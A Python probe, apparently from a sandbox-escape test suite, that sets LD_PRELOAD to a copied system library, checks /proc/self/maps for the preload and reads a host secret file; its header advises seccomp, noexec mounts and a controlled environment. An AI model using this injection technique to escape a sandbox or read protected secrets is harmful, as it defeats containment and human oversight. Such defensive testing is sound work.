# title: Preload a library into the next program
# tries: Copies a library to a folder of its own, names it in LD_PRELOAD and starts an interpreter, which looks whether it was loaded. Code in it would run before any guard of that program.
# impact: Escape
# proof: same
# host: run
# advice: Refuse execve by seccomp, mount what can be written to with noexec, and start programs with an environment of your own.

CHECK = """import sys
print("preloaded" if sys.argv[1] in open("/proc/self/maps").read() else "not preloaded")
print(open(sys.argv[2]).read())
"""


def attempt(host):
    import glob
    import os
    import shutil
    import subprocess
    import sys
    import tempfile

    folders = ("/lib/*-linux-gnu", "/usr/lib/*-linux-gnu", "/lib64", "/usr/lib64", "/lib", sys.prefix)
    patterns = [f"{folder}/{name}" for folder in folders for name in ("libm.so.6", "lib*.so*")]
    libraries = [path for pattern in patterns for path in glob.glob(pattern)]
    if not libraries:
        raise FileNotFoundError(2, "No library")
    with tempfile.TemporaryDirectory() as folder:
        copy = os.path.join(folder, "preloaded.so")
        shutil.copyfile(libraries[0], copy)
        command = [sys.executable, "-I", "-c", CHECK, copy, host["secret_file"]]
        done = subprocess.run(command, env=dict(os.environ, LD_PRELOAD=copy), capture_output=True, text=True, timeout=2)
        return done.stdout if done.stdout.startswith("preloaded") else None
